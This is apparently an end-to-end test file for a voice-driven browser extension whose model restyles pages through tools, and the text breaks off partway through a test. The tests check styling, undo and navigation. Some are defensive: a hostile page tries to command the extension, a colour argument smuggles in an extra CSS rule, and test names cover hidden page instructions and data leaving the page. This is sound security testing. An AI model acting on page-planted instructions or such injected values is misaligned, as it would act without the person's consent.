//! The end-to-end behaviours a person would notice, each run in Chromium and in Firefox.

use std::future::Future;
use std::pin::Pin;
use std::time::Duration;

use anyhow::{bail, ensure, Context, Result};
use serde_json::{json, Value};

use hark_e2e::browser::Engine;
use hark_e2e::pixels;
use hark_peer::ToolInvocation;

use hark_e2e::stack::{configure, Stack};

pub type TestFn = fn(Engine) -> Pin<Box<dyn Future<Output = Result<()>>>>;

tests!(
    session_connects_and_audio_flows_both_ways,
    get_page_html_is_compact_addressable_and_bounded,
    background_change_shows_on_the_real_page,
    text_color_reaches_body_text_headings_and_links,
    button_style_changes_one_button_by_label_or_all,
    invalid_color_is_an_error_and_the_page_is_untouched,
    undo_and_reset_restore_the_page_exactly,
    undo_and_reset_give_back_every_attribute_byte_for_byte,
    a_page_that_restores_its_own_styles_never_freezes_the_tab,
    several_calls_are_answered_in_order_with_one_response_create,
    tool_call_after_link_navigation_acts_on_the_new_page,
    hark_runs_in_a_page_only_while_its_session_serves_it,
    strict_csp_page_without_microphone_policy_works,
    page_cannot_command_the_extension,
    sensitive_values_never_leave_the_page,
    failures_have_words_and_the_session_restarts,
    local_mode_typed_command_changes_the_page,
    log_in_with_typed_text_and_a_click_by_label,
    form_controls_by_ref_and_label_scroll_and_back,
    zoom_text_then_undo_restores_exactly,
    hidden_instructions_get_nothing_done_without_the_persons_yes,
    every_way_of_sending_a_form_to_another_site_waits_for_the_persons_yes,
    a_yes_covers_only_what_it_asked_and_the_next_step_is_asked_again,
    an_address_on_another_site_carrying_page_data_waits_for_the_persons_yes,
    custom_drop_down_and_web_component_buttons,
    changes_survive_the_pages_re_renders_until_undone,
    refs_of_re_rendered_elements_are_stale_and_labels_still_work,
    numbered_labels_find_and_read_aloud,
);

const WAIT: Duration = Duration::from_secs(20);

async fn settle() {
    // Two frames and a margin for the page to repaint before a screenshot.
    tokio::time::sleep(Duration::from_millis(400)).await;
}

async fn session_connects_and_audio_flows_both_ways(engine: Engine) -> Result<()> {
    let mut s = Stack::start(engine).await?;
    s.open("/corpus/sb-admin-2/index.html").await?;
    let call = s.start_hark().await?;
    // The person's microphone reaches the model side with real energy.
    let info = call
        .wait_for("speech energy from the microphone", WAIT, |i| i.audio.heard_speech() && i.audio.packets > 50)
        .await
        .context("the peer heard no speech from the fake microphone")?;
    println!("microphone at the peer: {:?}", info.audio);
    // The toolbar button says what the session does, as the overlay does.
    wait_toolbar(&mut s, "Hark: listening", "ON").await?;
    // The model's voice plays in the browser, audibly (30 words: the peer plays 2 s of it).
    call.say(
        "Hello. I can see your dashboard, with its cards, its charts and its tables; tell me what you \
         would like to change on it, and I will do it for you right away.",
    )?;
    s.wait_status("the model's audio to play", WAIT, |st| st["remoteAudioLevel"].as_f64().unwrap_or(0.0) > 0.01)
        .await?;
    wait_toolbar(&mut s, "Hark: speaking", "ON").await?;
    s.wait_status("the model's words in the transcript", WAIT, |st| {
        st.to_string().contains("I can see your dashboard")
    })
    .await?;
    wait_toolbar(&mut s, "Hark: listening", "ON").await?;
    // Stopped from the toolbar: no badge, and the title says how to start again.
    s.browser.press_toolbar_button().await?;
    s.wait_state(&["off"], WAIT).await?;
    wait_toolbar(&mut s, "Hark: off (click to start)", "").await?;
    s.stop().await;
    Ok(())
}

/// Waits for the toolbar button to show `title` and `badge`.
async fn wait_toolbar(s: &mut Stack, title: &str, badge: &str) -> Result<()> {
    let deadline = std::time::Instant::now() + WAIT;
    loop {
        let shown = crate::first_run::toolbar(&mut s.browser).await?;
        if shown.0 == title && shown.1 == badge {
            return Ok(());
        }
        ensure!(std::time::Instant::now() < deadline, "the toolbar shows {shown:?}, not {title:?} / {badge:?}");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

async fn get_page_html_is_compact_addressable_and_bounded(engine: Engine) -> Result<()> {
    let mut s = Stack::start(engine).await?;
    s.open("/corpus/readability/wikipedia.html").await?;
    let call = s.start_hark().await?;
    let html_len = s.browser.eval("return document.documentElement.outerHTML.length").await?.as_u64().unwrap_or(0);
    let heading = s.browser.eval("return document.querySelector('h1').innerText.trim()").await?;
    let out = call.call_tool("getPageHTML", json!({})).await?;
    ensure!(
        out.len() * 30 < html_len as usize,
        "snapshot is {} chars for a page of {} chars: not 30x smaller",
        out.len(),
        html_len
    );
    ensure!(
        out.contains(heading.as_str().unwrap_or("?")),
        "the page's heading {heading} is not in the snapshot: {}",
        &out[..out.len().min(600)]
    );
    let refs = out.match_indices("[e").filter(|(i, _)| out[i + 2..].starts_with(|c: char| c.is_ascii_digit())).count();
    ensure!(refs >= 20, "only {refs} element refs like [e12] in the snapshot of a page full of links");
    // A tight budget is honoured (about 4 chars a token, with slack for the frame).
    let small = call.call_tool("getPageHTML", json!({ "maxTokens": 300 })).await?;
    ensure!(small.len() <= 300 * 5 + 400, "maxTokens 300 gave {} chars", small.len());
    // One element's HTML by selector, bounded.
    let one = call.call_tool("getPageHTML", json!({ "selector": "h1" })).await?;
    ensure!(one.contains(heading.as_str().unwrap_or("?")) && one.len() < 5_000, "selector h1 gave {one}");
    // Reading on with the ref the outline names reaches the end of a page too big for one answer:
    // the last link of the page gets a ref, and every answer keeps to the budget.
    let last = s.browser.eval("const a = [...document.querySelectorAll('a[href]')].filter(a => a.checkVisibility() && a.innerText.trim()); return a[a.length - 1].innerText.trim()").await?;
    let last = last.as_str().unwrap_or("?").to_string();
    let (mut all, mut answer, mut answers) = (out.clone(), out.clone(), 1);
    while let Some(i) = answer.find("from=\"") {
        let from: String = answer[i + 6..].chars().take_while(|c| *c != '"').collect();
        answer = call.call_tool("getPageHTML", json!({ "from": from })).await?;
        ensure!(!failed(&answer) || !answer.starts_with('{'), "getPageHTML from {from} failed: {answer}");
        ensure!(answer.len() <= 2000 * 5 + 400, "an answer read on from {from} has {} chars", answer.len());
        all.push_str(&answer);
        answers += 1;
        ensure!(answers < 40, "reading on does not end");
    }
    ensure!(
        answers > 1 && answer.contains("End of the page"),
        "the outline never said how to read on ({answers} answers)"
    );
    ensure!(ref_named(&all, &last).is_some(), "the page's last link \"{last}\" has no ref after {answers} answers");
    s.stop().await;
    Ok(())
}

/// Points of the viewport where the page's own background shows: the topmost element painting
/// there is the root, the body, or a container covering at least 40% of the viewport. Each point
/// comes with that element's background color, so the test counts only pixels that show it (not
/// text, shadows or images drawn over it).
const PAGE_BACKGROUND_POINTS: &str = r#"
  const W = document.documentElement.clientWidth, H = document.documentElement.clientHeight, pts = [];
  const opaque = cs => { const m = cs.backgroundColor.match(/[\d.]+/g); return (m && (m.length < 4 || +m[3] > 0.5)) || cs.backgroundImage !== 'none'; };
  const area = el => { const r = el.getBoundingClientRect();
    return Math.max(0, Math.min(r.right, W) - Math.max(r.left, 0)) * Math.max(0, Math.min(r.bottom, H) - Math.max(r.top, 0)); };
  for (let y = 8; y < H; y += 20) for (let x = 8; x < W; x += 20) {
    const el = document.elementsFromPoint(x, y).find(e => opaque(getComputedStyle(e)));
    if (!el) pts.push([x, y, 'rgb(255, 255, 255)']);
    else if (el === document.documentElement || el === document.body || area(el) >= 0.4 * W * H) pts.push([x, y, getComputedStyle(el).backgroundColor]);
  }
  return pts;"#;

async fn check_background_change(s: &mut Stack, call: &hark_peer::CallHandle, page: &str) -> Result<()> {
    let t0 = std::time::Instant::now();
    s.open(page).await?;
    settle().await;
    eprintln!("  {page}: loaded in {:?}", t0.elapsed());
    let painted: Vec<(usize, usize, String)> = serde_json::from_value(s.browser.eval(PAGE_BACKGROUND_POINTS).await?)?;
    let before = s.browser.keep_screenshot(&format!("{page}-before-background")).await?;
    // Keep the points whose pixel shows the painting element's own color.
    let points: Vec<(usize, usize)> = painted
        .iter()
        .filter(|(x, y, css)| {
            *x < before.width
                && *y < before.height
                && pixels::parse_css_rgb(css).is_some_and(|c| pixels::close(before.at(*x, *y), c, 2))
        })
        .map(|(x, y, _)| (*x, *y))
        .collect();
    let colors: Vec<[u8; 3]> = points.iter().map(|(x, y)| before.at(*x, *y)).collect();
    let old = dominant(&colors).context("no page background visible")?;
    let new = [12, 34, 120];
    eprintln!("  {page}: measured in {:?}", t0.elapsed());
    let out = call.call_tool("changeBackgroundColor", json!({ "color": "rgb(12, 34, 120)" })).await?;
    eprintln!("  {page}: changed in {:?}", t0.elapsed());
    ensure!(!out.to_lowercase().contains("error"), "{page}: changeBackgroundColor failed: {out}");
    settle().await;
    let after = s.browser.keep_screenshot(&format!("{page}-after-background")).await?;
    let mut was = 0;
    let mut now = 0;
    for (x, y) in points.iter().filter(|(x, y)| *x < before.width && *y < before.height) {
        if pixels::close(before.at(*x, *y), old, 2) {
            was += 1;
            if pixels::close(after.at(*x, *y), new, 3) {
                now += 1;
            }
        }
    }
    let share = now as f64 / was.max(1) as f64;
    println!("{page}: {:.1}% of {was} page-background points changed from {old:?} to {new:?}", share * 100.0);
    ensure!(was > 30, "{page}: too few page-background points ({was})");
    ensure!(share >= 0.9, "{page}: only {:.1}% of the page background shows the new color", share * 100.0);
    Ok(())
}

fn dominant(colors: &[[u8; 3]]) -> Option<[u8; 3]> {
    let mut counts = std::collections::HashMap::new();
    for c in colors {
        *counts.entry(*c).or_insert(0) += 1;
    }
    counts.into_iter().max_by_key(|(_, n)| *n).map(|(c, _)| c)
}

async fn background_change_shows_on_the_real_page(engine: Engine) -> Result<()> {
    let mut s = Stack::start(engine).await?;
    s.open("/corpus/sb-admin-2/index.html").await?;
    let call = s.start_hark().await?;
    for page in [
        "/corpus/sb-admin-2/index.html",
        "/corpus/sb-admin-2/buttons.html",
        "/corpus/readability/nytimes-1.html",
        "/corpus/readability/wikipedia.html",
    ] {
        check_background_change(&mut s, &call, page).await?;
    }
    s.stop().await;
    Ok(())
}

async fn text_color_reaches_body_text_headings_and_links(engine: Engine) -> Result<()> {
    let mut s = Stack::start(engine).await?;
    s.open("/corpus/readability/wikipedia.html").await?;
    let call = s.start_hark().await?;
    let red = [200, 0, 0];
    let before = s.browser.screenshot().await?;
    let out = call.call_tool("changeTextColor", json!({ "color": "#c80000" })).await?;
    ensure!(!out.to_lowercase().contains("error"), "changeTextColor failed: {out}");
    settle().await;
    let colors = s.browser.eval(r#"
        const visible = el => { const r = el.getBoundingClientRect(); return r.width > 0 && r.height > 0 && r.top < innerHeight; };
        const pick = sel => [...document.querySelectorAll(sel)].find(visible);
        return ['p', 'h1', 'h2, h3', 'p a, li a', 'li'].map(sel => { const el = pick(sel); return el ? [sel, getComputedStyle(el).color] : [sel, null]; });"#).await?;
    for pair in colors.as_array().context("colors")? {
        let (sel, color) = (pair[0].as_str().unwrap_or("?"), pair[1].as_str());
        if let Some(c) = color {
            ensure!(pixels::parse_css_rgb(c) == Some(red), "{sel} is {c}, not the new text color");
        }
    }
    let after = s.browser.screenshot().await?;
    let (b, a) = (before.share_of(red, 60), after.share_of(red, 60));
    println!("reddish pixels: {:.2}% before, {:.2}% after", b * 100.0, a * 100.0);
    ensure!(a > b + 0.005, "the text on screen did not turn red ({:.2}% → {:.2}%)", b * 100.0, a * 100.0);
    s.stop().await;
    Ok(())
}

const BUTTON_BY_LABEL: &str =
    "return (label => { const b = [...document.querySelectorAll('.btn')].find(b => b.innerText.trim() === label);
    b.scrollIntoView({ block: 'center' }); const cs = getComputedStyle(b); const r = b.getBoundingClientRect();
    return { font: parseFloat(cs.fontSize), bg: cs.backgroundColor, rect: [r.left, r.top, r.width, r.height] }; })";

async fn button_style_changes_one_button_by_label_or_all(engine: Engine) -> Result<()> {
    let mut s = Stack::start(engine).await?;
    s.open("/corpus/sb-admin-2/buttons.html").await?;
    let call = s.start_hark().await?;
    let other_before = s.browser.eval(&format!("{BUTTON_BY_LABEL}('Split Button Info')")).await?;
    let out = call
        .call_tool(
            "changeButtonStyle",
            json!({ "target": "Split Button Success", "size": "x-large", "color": "rgb(255, 140, 0)" }),
        )
        .await?;
    ensure!(!out.to_lowercase().contains("error"), "changeButtonStyle failed: {out}");
    settle().await;
    let b = s.browser.eval(&format!("{BUTTON_BY_LABEL}('Split Button Success')")).await?;
    ensure!(b["bg"] == json!("rgb(255, 140, 0)"), "the labelled button is {}", b["bg"]);
    ensure!(b["font"].as_f64().unwrap_or(0.0) >= 29.0, "the labelled button's font is {}px", b["font"]);
    settle().await;
    let shot = s.browser.screenshot().await?;
    let r: Vec<f64> = serde_json::from_value(b["rect"].clone())?;
    let mut orange = 0;
    let mut total = 0;
    for y in (r[1].max(0.0) as usize)..((r[1] + r[3]) as usize).min(shot.height) {
        for x in (r[0].max(0.0) as usize)..((r[0] + r[2]) as usize).min(shot.width) {
            total += 1;
            if pixels::close(shot.at(x, y), [255, 140, 0], 4) {
                orange += 1;
            }
        }
    }
    ensure!(total > 0 && orange * 3 > total, "the button on screen is not orange ({orange} of {total} pixels)");
    let other_after = s.browser.eval(&format!("{BUTTON_BY_LABEL}('Split Button Info')")).await?;
    ensure!(other_after["bg"] == other_before["bg"], "another button changed too");
    // A label in another script, said in lowercase, names the button written in capitals (the
    // core lowercases non-ASCII text with the browser's own toLowerCase).
    s.browser
        .eval("document.querySelector('.card-body').insertAdjacentHTML('beforeend', '<button class=\"btn btn-light\" id=\"umlaut\">ΟΔΟΣ ΞΕΝΙΑΣ</button>'); return true")
        .await?;
    let out =
        call.call_tool("changeButtonStyle", json!({ "target": "οδος ξενιας", "color": "rgb(0, 0, 255)" })).await?;
    ensure!(!out.to_lowercase().contains("error"), "changeButtonStyle by a non-English label failed: {out}");
    let bg = s.browser.eval("return getComputedStyle(document.getElementById('umlaut')).backgroundColor").await?;
    ensure!(bg == json!("rgb(0, 0, 255)"), "the button labelled in capitals is {bg}");
    // No target: every button, including links styled as buttons and input buttons.
    let out = call.call_tool("changeButtonStyle", json!({ "color": "rgb(0, 128, 0)" })).await?;
    ensure!(!out.to_lowercase().contains("error"), "changeButtonStyle (all) failed: {out}");
    let unchanged = s.browser.eval("return [...document.querySelectorAll('button.btn, a.btn')].filter(b => b.offsetParent && getComputedStyle(b).backgroundColor !== 'rgb(0, 128, 0)').length").await?;
    ensure!(unchanged == json!(0), "{unchanged} visible buttons kept their color");
    s.stop().await;
    Ok(())
}

async fn invalid_color_is_an_error_and_the_page_is_untouched(engine: Engine) -> Result<()> {
    let mut s = Stack::start(engine).await?;
    s.open("/corpus/sb-admin-2/index.html").await?;
    let call = s.start_hark().await?;
    let styles =
        "return [...document.querySelectorAll('*')].map(e => e.getAttribute('style')).filter(Boolean).join('|')";
    let before = s.browser.eval(styles).await?;
    for (name, args) in [
        ("changeBackgroundColor", json!({ "color": "blurple" })),
        ("changeTextColor", json!({ "color": "red; position: fixed" })),
        ("changeButtonStyle", json!({ "size": "enormous-ish" })),
        ("changeTextColor", json!({})),
    ] {
        let out = call.call_tool(name, args.clone()).await?;
        ensure!(out.to_lowercase().contains("error"), "{name}({args}) gave no error: {out}");
    }
    ensure!(s.browser.eval(styles).await? == before, "an invalid call changed the page");
    // The session is not stuck: a valid call still works.
    let out = call.call_tool("changeBackgroundColor", json!({ "color": "navy" })).await?;
    ensure!(!out.to_lowercase().contains("error"), "valid call after errors failed: {out}");
    s.stop().await;
    Ok(())
}

async fn undo_and_reset_restore_the_page_exactly(engine: Engine) -> Result<()> {
    let mut s = Stack::start(engine).await?;
    s.open("/corpus/sb-admin-2/buttons.html").await?;
    let call = s.start_hark().await?;
    let styles = "return [...document.querySelectorAll('body *, body, html')].filter(e => !e.matches('hark-overlay, [data-hark-overlay]')).map(e => [e.tagName + (e.id ? '#' + e.id : '') + '.' + e.className, e.getAttribute('style')])";
    let original = s.browser.eval(styles).await?;
    call.call_tool("changeBackgroundColor", json!({ "color": "black" })).await?;
    let after_bg = s.browser.eval(styles).await?;
    call.call_tool("changeTextColor", json!({ "color": "white" })).await?;
    call.call_tool("changeButtonStyle", json!({ "size": "large", "color": "purple" })).await?;
    ensure!(s.browser.eval(styles).await? != after_bg, "the text and button changes left no trace");
    let out = call.call_tool("undo", json!({})).await?;
    ensure!(!out.to_lowercase().contains("error"), "undo failed: {out}");
    call.call_tool("undo", json!({})).await?;
    ensure!(
        s.browser.eval(styles).await? == after_bg,
        "two undos did not return to the state after the background change"
    );
    call.call_tool("changeTextColor", json!({ "color": "yellow" })).await?;
    let out = call.call_tool("resetPage", json!({})).await?;
    ensure!(!out.to_lowercase().contains("error"), "resetPage failed: {out}");
    let restored = s.browser.eval(styles).await?;
    if restored != original {
        let (a, b) =
            (original.as_array().cloned().unwrap_or_default(), restored.as_array().cloned().unwrap_or_default());
        let diffs: Vec<String> =
            a.iter().zip(b.iter()).filter(|(x, y)| x != y).take(5).map(|(x, y)| format!("{x} became {y}")).collect();
        bail!("resetPage did not restore every style exactly ({} vs {} elements): {diffs:?}", a.len(), b.len());
    }
    s.stop().await;
    Ok(())
}

/// Every element's attributes, in document order (Hark's own hosts left out), as the page's
/// scripts and selectors would read them: `[tag, "name=value", ...]`.
const ALL_ATTRIBUTES: &str =
    "return [...document.querySelectorAll('*')].filter(e => !e.matches('hark-overlay, hark-marks'))
    .map(e => [e.tagName, ...[...e.attributes].map(a => a.name + '=' + a.value)])";

fn attribute_diffs(a: &Value, b: &Value) -> Vec<String> {
    let (a, b) = (a.as_array().cloned().unwrap_or_default(), b.as_array().cloned().unwrap_or_default());
    let mut out: Vec<String> =
        a.iter().zip(b.iter()).filter(|(x, y)| x != y).map(|(x, y)| format!("{x} became {y}")).collect();
    if a.len() != b.len() {
        out.push(format!("{} elements became {}", a.len(), b.len()));
    }
    out
}

async fn undo_and_reset_give_back_every_attribute_byte_for_byte(engine: Engine) -> Result<()> {
    let mut s = Stack::start(engine).await?;
    s.open("/t/inline-styles.html").await?;
    let call = s.start_hark().await?;
    let before = s.browser.eval(ALL_ATTRIBUTES).await?;
    // The page's own text, including what this browser drops when it re-serializes a style.
    ensure!(
        before.to_string().contains("-moz-user-select: none;")
            && before.to_string().contains("filter:chroma(color=#000000);"),
        "the test page is not as written: {before}"
    );
    let tools = [
        ("changeBackgroundColor", json!({ "color": "navy" })),
        ("changeTextColor", json!({ "color": "white" })),
        ("changeButtonStyle", json!({ "size": "large", "color": "purple" })),
    ];
    for (tool, args) in &tools {
        let out = call.call_tool(tool, args.clone()).await?;
        ensure!(!out.to_lowercase().contains("error"), "{tool} failed: {out}");
        let during = s.browser.eval(ALL_ATTRIBUTES).await?;
        let diffs = attribute_diffs(&before, &during);
        ensure!(!diffs.is_empty(), "{tool} changed no style attribute");
        // While a change is on, Hark has touched style attributes only.
        let strip = |v: &Value| -> Vec<Vec<String>> {
            v.as_array()
                .into_iter()
                .flatten()
                .map(|e| {
                    e.as_array()
                        .into_iter()
                        .flatten()
                        .filter_map(|x| x.as_str())
                        .filter(|x| !x.starts_with("style="))
                        .map(str::to_string)
                        .collect()
                })
                .collect()
        };
        ensure!(strip(&before) == strip(&during), "{tool} changed attributes other than style");
        let out = call.call_tool("undo", json!({})).await?;
        ensure!(!out.to_lowercase().contains("error"), "undo after {tool} failed: {out}");
        let after = s.browser.eval(ALL_ATTRIBUTES).await?;
        let diffs = attribute_diffs(&before, &after);
        ensure!(diffs.is_empty(), "undo of {tool} did not give the page back its attributes: {diffs:?}");
    }
    for (tool, args) in &tools {
        call.call_tool(tool, args.clone()).await?;
    }
    let out = call.call_tool("resetPage", json!({})).await?;
    ensure!(!out.to_lowercase().contains("error"), "resetPage failed: {out}");
    let after = s.browser.eval(ALL_ATTRIBUTES).await?;
    let diffs = attribute_diffs(&before, &after);
    ensure!(diffs.is_empty(), "resetPage did not give the page back its attributes: {diffs:?}");
    s.stop().await;
    Ok(())
}

async fn a_page_that_restores_its_own_styles_never_freezes_the_tab(engine: Engine) -> Result<()> {
    let mut s = Stack::start(engine).await?;
    s.open("/t/style-fighter.html").await?;
    let call = s.start_hark().await?;
    let before = s.browser.eval(ALL_ATTRIBUTES).await?;
    let out = call.call_tool("changeBackgroundColor", json!({ "color": "navy" })).await?;
    ensure!(!out.to_lowercase().contains("error"), "changeBackgroundColor failed: {out}");
    // The tab goes on: the page's own 50 ms heartbeat keeps counting, and WebDriver gets answers.
    let t0 = std::time::Instant::now();
    let ticks = |v: Value| v.as_u64().unwrap_or(0);
    let first = ticks(
        tokio::time::timeout(Duration::from_secs(5), s.browser.eval("return window.__ticks"))
            .await
            .context("the tab froze: no answer within 5 s")??,
    );
    tokio::time::sleep(Duration::from_millis(1000)).await;
    let second = ticks(
        tokio::time::timeout(Duration::from_secs(5), s.browser.eval("return window.__ticks"))
            .await
            .context("the tab froze: no answer within 5 s")??,
    );
    println!("page heartbeat: {} ticks of 50 ms in {:?} after the change", second - first, t0.elapsed());
    ensure!(second >= first + 10, "the page's heartbeat nearly stopped: {first} -> {second} in about a second");
    // The next answer says the page undid the change, so the model can tell the person.
    let out = call.call_tool("changeTextColor", json!({ "color": "white" })).await?;
    ensure!(out.contains("kept undoing"), "the next answer does not say the page undid Hark's change: {out}");
    let out = call.call_tool("resetPage", json!({})).await?;
    ensure!(!out.to_lowercase().contains("error"), "resetPage failed: {out}");
    let after = s.browser.eval(ALL_ATTRIBUTES).await?;
    let diffs = attribute_diffs(&before, &after);
    ensure!(diffs.is_empty(), "resetPage did not give the page back its attributes: {diffs:?}");
    s.stop().await;
    Ok(())
}

async fn several_calls_are_answered_in_order_with_one_response_create(engine: Engine) -> Result<()> {
    let mut s = Stack::start(engine).await?;
    s.open("/corpus/sb-admin-2/index.html").await?;
    let call = s.start_hark().await?;
    let outs = call
        .call_tools(vec![
            ToolInvocation::new("changeBackgroundColor", json!({ "color": "teal" })),
            ToolInvocation::new("deleteEverything", json!({})),
            ToolInvocation::new("changeTextColor", json!({ "color": 42 })),
            ToolInvocation::new("getPageHTML", json!({ "maxTokens": 300 })),
        ])
        .await?;
    ensure!(!outs[0].to_lowercase().contains("error"), "first call failed: {}", outs[0]);
    ensure!(
        outs[1].contains("unknown function") || outs[1].contains("deleteEverything"),
        "unknown function output: {}",
        outs[1]
    );
    ensure!(outs[2].to_lowercase().contains("error"), "odd argument output: {}", outs[2]);
    ensure!(outs[3].contains("Dashboard"), "getPageHTML output: {}", outs[3]);
    // Give the client time to send its response.create, then check the order on the wire.
    tokio::time::sleep(Duration::from_millis(800)).await;
    let events = call.received_events();
    let kinds: Vec<String> = events
        .iter()
        .map(|e| match (e["type"].as_str(), e["item"]["type"].as_str()) {
            (Some("conversation.item.create"), Some("function_call_output")) => "output".to_string(),
            (Some(t), _) => t.to_string(),
            _ => "?".into(),
        })
        .filter(|k| k == "output" || k == "response.create")
        .collect();
    ensure!(kinds == ["output", "output", "output", "output", "response.create"], "client sent {kinds:?}");
    s.stop().await;
    Ok(())
}

async fn tool_call_after_link_navigation_acts_on_the_new_page(engine: Engine) -> Result<()> {
    let mut s = Stack::start(engine).await?;
    s.open("/corpus/sb-admin-2/index.html").await?;
    let call = s.start_hark().await?;
    // A short outline of this page names where to read on from.
    let first = call.call_tool("getPageHTML", json!({ "maxTokens": 200 })).await?;
    let read_on = first.split("from=\"").nth(1).and_then(|r| r.split('"').next()).map(str::to_string);
    let read_on = read_on
        .ok_or_else(|| anyhow::anyhow!("a 200-token outline of the dashboard names no ref to read on from: {first}"))?;
    // Follow a real link in the page, as a person would.
    s.browser.eval("document.querySelector('a[href=\"buttons.html\"]').click(); return true;").await?;
    let deadline = std::time::Instant::now() + WAIT;
    while !s.browser.eval("return location.pathname").await?.as_str().unwrap_or("").ends_with("buttons.html") {
        ensure!(std::time::Instant::now() < deadline, "the link did not navigate");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    // Reading on from the old page's ref does not read some other element of this one.
    let out = call.call_tool("getPageHTML", json!({ "from": read_on })).await?;
    ensure!(
        out.contains("earlier version of the page"),
        "reading on from {read_on} of the page left behind gave: {out}"
    );
    let out = call.call_tool("getPageHTML", json!({ "maxTokens": 400 })).await?;
    ensure!(out.contains("Buttons"), "getPageHTML after navigation does not describe the new page: {out}");
    let out = call.call_tool("changeBackgroundColor", json!({ "color": "rgb(12, 34, 120)" })).await?;
    ensure!(!out.to_lowercase().contains("error"), "{out}");
    let bg =
        s.browser.eval("return getComputedStyle(document.querySelector('#content-wrapper')).backgroundColor").await?;
    ensure!(bg == json!("rgb(12, 34, 120)"), "the new page's background is {bg}");
    // Back again (the browser may restore the page from its back-forward cache): calls act on
    // the page the person sees, not on the one they left.
    s.browser.eval("history.back(); return true;").await?;
    while !s.browser.eval("return location.pathname").await?.as_str().unwrap_or("").ends_with("index.html") {
        ensure!(std::time::Instant::now() < deadline + WAIT, "history.back() did not navigate");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let out = call.call_tool("getPageHTML", json!({ "maxTokens": 400 })).await?;
    ensure!(
        out.contains("Dashboard") && !out.contains("Circle Buttons"),
        "getPageHTML after going back does not describe the page: {out}"
    );
    let out = call.call_tool("changeTextColor", json!({ "color": "rgb(120, 20, 20)" })).await?;
    ensure!(!out.to_lowercase().contains("error"), "{out}");
    let color = s.browser.eval("return getComputedStyle(document.querySelector('h1')).color").await?;
    ensure!(color == json!("rgb(120, 20, 20)"), "the page gone back to has text color {color}");
    ensure!(s.peer.calls().len() == 1, "navigation started another session");
    s.stop().await;
    Ok(())
}

/// Nothing of Hark's runs in pages where Hark is off: its executor comes with a start, and into
/// each new document of the served tab while the session runs, and not after a stop.
async fn hark_runs_in_a_page_only_while_its_session_serves_it(engine: Engine) -> Result<()> {
    let mut s = Stack::start(engine).await?;
    s.open("/corpus/sb-admin-2/index.html").await?;
    ensure!(s.browser.hark_in_page().await?.is_none(), "Hark's scripts run in a page where Hark is off");
    let call = s.start_hark().await?;
    ensure!(s.browser.hark_in_page().await?.is_some(), "a session runs and the page has no executor");
    // A link the person follows: the new document gets the executor and the overlay by itself.
    s.browser.eval("document.querySelector('a[href=\"buttons.html\"]').click(); return true;").await?;
    let deadline = std::time::Instant::now() + WAIT;
    let ready = loop {
        let here = s.browser.eval("return location.pathname").await?;
        if here.as_str().unwrap_or("").ends_with("buttons.html") {
            if let Some(ready) = s.browser.hark_in_page().await? {
                break ready;
            }
        }
        ensure!(std::time::Instant::now() < deadline, "the followed link's page got no executor within {WAIT:?}");
        tokio::time::sleep(Duration::from_millis(50)).await;
    };
    println!(
        "figure: {} executor ready {:.0} ms after the navigation started (DOMContentLoaded done at {:.0} ms)",
        engine.name(),
        ready.ready_ms,
        ready.dom_content_loaded_ms
    );
    loop {
        let shown = s.browser.overlay().await?;
        if shown["text"].as_str().is_some_and(|t| !t.is_empty()) {
            break;
        }
        ensure!(std::time::Instant::now() < deadline, "the followed link's page shows no overlay: {shown}");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let out = call.call_tool("getPageHTML", json!({ "maxTokens": 400 })).await?;
    ensure!(out.contains("Buttons"), "getPageHTML does not describe the followed link's page: {out}");
    // Stopped: the next document is the page's alone.
    s.browser.press_toolbar_button().await?;
    s.wait_state(&["off"], WAIT).await?;
    s.open("/corpus/sb-admin-2/cards.html").await?;
    tokio::time::sleep(Duration::from_millis(1000)).await;
    ensure!(s.browser.hark_in_page().await?.is_none(), "Hark's scripts came into a page after the session stopped");
    s.stop().await;
    Ok(())
}

async fn strict_csp_page_without_microphone_policy_works(engine: Engine) -> Result<()> {
    let mut s = Stack::start(engine).await?;
    s.open("/strict/strict.html").await?;
    let call = s.start_hark().await?;
    call.wait_for("speech energy from the microphone", WAIT, |i| i.audio.heard_speech()).await?;
    let out = call.call_tool("getPageHTML", json!({})).await?;
    ensure!(out.contains("Save changes") && out.contains("Account settings"), "snapshot on the strict page: {out}");
    check_background_change(&mut s, &call, "/strict/strict.html").await?;
    // The overlay's frame (an extension page) shows under `default-src 'none'` too, with the
    // tool's line in it.
    let deadline = std::time::Instant::now() + WAIT;
    loop {
        let shown = s.browser.overlay_text().await?;
        if shown.contains("changeBackgroundColor") {
            break;
        }
        ensure!(std::time::Instant::now() < deadline, "the overlay on the strict page shows {shown:?}");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    // A dark view is written as style rules in a sheet of Hark's own: `style-src 'self'` must not
    // stop it (a fresh load, so no earlier change is written into the elements' styles).
    s.open("/strict/strict.html").await?;
    settle().await;
    let out = call.call_tool("changePageView", json!({ "theme": "dark" })).await?;
    ensure!(out.contains("dark theme"), "changePageView on the strict page: {out}");
    settle().await;
    let dark = hark_e2e::contrast::dark_share(&s.browser.screenshot().await?);
    ensure!(dark > 0.6, "the strict page's dark view left {:.0}% of the screen dark", dark * 100.0);
    let text = s.browser.eval("return getComputedStyle(document.querySelector('main p')).color").await?;
    let light = text.as_str().and_then(pixels::parse_css_rgb).is_some_and(|[r, g, b]| r.min(g).min(b) > 150);
    ensure!(light, "the strict page's text under the dark view: {text}");
    call.call_tool("undo", json!({})).await?;
    s.stop().await;
    Ok(())
}

async fn page_cannot_command_the_extension(engine: Engine) -> Result<()> {
    let mut s = Stack::start(engine).await?;
    s.open("/t/hostile.html").await?;
    tokio::time::sleep(Duration::from_secs(2)).await;
    let attacks = s.browser.eval("return Number(document.body.dataset.attacks || 0)").await?;
    ensure!(attacks.as_u64().unwrap_or(0) > 20, "the hostile page did not run ({attacks})");
    ensure!(s.peer.calls().is_empty(), "the page started a session by itself");
    let status = s.status().await?;
    ensure!(status["state"] == json!("off"), "Hark is {status} after the page's attempts");
    // Now the person starts Hark; the page keeps attacking while the session runs.
    let call = s.start_hark().await?;
    tokio::time::sleep(Duration::from_secs(2)).await;
    let bg = s.browser.eval("return getComputedStyle(document.body).backgroundColor").await?;
    ensure!(bg == json!("rgb(250, 250, 250)"), "the page changed its own look through Hark: {bg}");
    let outputs = call.function_outputs();
    ensure!(outputs.is_empty(), "Hark sent function outputs nobody asked for: {outputs:?}");
    ensure!(s.peer.calls().len() == 1, "the page toggled extra sessions");
